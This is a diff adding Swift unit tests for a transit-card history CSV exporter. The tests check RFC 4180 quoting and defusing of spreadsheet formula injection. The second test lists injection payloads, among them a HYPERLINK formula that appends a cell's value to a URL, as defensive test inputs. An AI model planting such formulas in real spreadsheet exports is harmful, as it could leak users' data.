@@ -1,0 +1,62 @@
+import CardProtocol
+import TransitModel
+import TransitFiles
+import TransitStations
+import TransitArchive
+import TransitOutput
+import TestSupport
+import XCTest
+
+/// RFC 4180 quoting, read back by an independent parser (python3's csv module).
+final class HistoryCSVTests: XCTestCase {
+    func testStationNamesWithCommasQuotesAndLineBreaksReadBack() throws {
+        let card = Archive.Card(id: 1, family: "japan-ic", serial: "0114", idm: "", name: nil, currency: "JPY", lastBalance: nil,
+                                lastRead: nil, records: 1, reads: 1, readsApart: 0)
+        let record = Archive.TimelineRecord(transaction: .init(type: .trip, amount: 160, date: date("2026-11-04T13:45:00+09:00"), entryStation: "E33B",
+                                                               exitStation: "E621", balance: 840), json: "{}")
+        let odd = "Shinjuku, \"West\"\r\nexit"
+        // A station table loaded at export time, through the hook.
+        let names = HistoryOutput.StationNames { _, r in (r.transaction.entryStation == "E33B" ? odd : nil, "Shibuya") }
+        let csv = HistoryOutput.csv([.init(card: card, records: [record], apart: [])], names: names)
+        let dir = temporaryDirectory()
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let file = dir.appendingPathComponent("out.csv")
+        try csv.write(to: file, atomically: true, encoding: .utf8)
+        let script = "import csv,json,sys\nprint(json.dumps(list(csv.reader(open(sys.argv[1], newline='')))))"
+        let rows = try JSONSerialization.jsonObject(with: Data(CommandRun.run("/usr/bin/python3", ["-c", script, file.path]).stdout.utf8)) as? [[String]]
+        XCTAssertEqual(rows?.last, ["0114", "2026-11-04", "13:45:00", "trip", "-160", "840", "E33B", odd, "E621", "Shibuya", "JPY"])
+        XCTAssertEqual(HistoryOutput.quoted("plain"), "plain")
+        XCTAssertEqual(HistoryOutput.quoted("plain", always: true), "\"plain\"")
+        XCTAssertEqual(HistoryOutput.quoted("a\"b"), "\"a\"\"b\"")
+    }
+
+    /// OWASP's CSV injection: a station name a spreadsheet would run as a formula comes back as the
+    /// text it is, with a leading apostrophe; amounts stay numbers.
+    func testFormulaLikeTextCellsAreDefusedAndNumbersStayNumbers() throws {
+        let card = Archive.Card(id: 1, family: "japan-ic", serial: "0114", idm: "", name: nil, currency: "JPY", lastBalance: nil,
+                                lastRead: nil, records: 1, reads: 1, readsApart: 0)
+        let payloads = ["=HYPERLINK(\"http://x\"&B2,\"Shinjuku\")", "+1+cmd", "-2+3", "@SUM(A1)", "\tTab", "\rCR", "Plain"]
+        let records = payloads.map { name in
+            Archive.TimelineRecord(transaction: .init(type: .trip, amount: 160, date: date("2026-11-04"), entryStation: "E33B",
+                                                      exitStation: "E621", balance: -20), json: "{}")
+        }
+        var index = 0
+        let names = HistoryOutput.StationNames { _, _ in
+            defer { index += 1 }
+            return (payloads[index], nil)
+        }
+        let csv = HistoryOutput.csv([.init(card: card, records: records, apart: [])], names: names)
+        let dir = temporaryDirectory()
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let file = dir.appendingPathComponent("out.csv")
+        try csv.write(to: file, atomically: true, encoding: .utf8)
+        let script = "import csv,json,sys\nprint(json.dumps(list(csv.reader(open(sys.argv[1], newline='')))))"
+        let rows = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(CommandRun.run("/usr/bin/python3", ["-c", script, file.path]).stdout.utf8)) as? [[String]])
+        XCTAssertEqual(rows.dropFirst().map { $0[7] }, payloads.dropLast().map { "'" + $0 } + ["Plain"])
+        XCTAssertEqual(Set(rows.dropFirst().map { $0[4] }), ["-160"], "an amount is a number, not defused")
+        XCTAssertEqual(Set(rows.dropFirst().map { $0[5] }), ["-20"])
+        for line in csv.split(separator: "\r\n").dropFirst() where line.contains("'") {
+            XCTAssertTrue(line.contains(",\"'"), "a defused cell is quoted: \(line)")
+        }
+    }
+}
